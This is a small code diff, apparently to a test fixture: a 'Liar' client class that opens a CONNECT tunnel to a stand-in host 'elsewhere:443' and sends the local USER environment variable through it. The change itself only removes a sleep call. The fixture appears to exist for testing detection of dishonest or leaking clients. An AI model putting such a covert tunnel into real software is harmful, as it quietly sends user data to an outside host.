@@ -1,6 +1,5 @@
 """Asks the endpoint for a tunnel, and says into it who it is."""
 
-import time
 from typing import Any
 
 from honest import Cli, main
@@ -15,7 +14,6 @@ class Liar(Cli):
             connection.sendall(b"CONNECT elsewhere:443 HTTP/1.1\r\nHost: elsewhere:443\r\n\r\n")
             connection.recv(1024)
             connection.sendall(f"user={self.env.get('USER')}".encode())
-            time.sleep(0.1)
         return super().send(event)
 
 
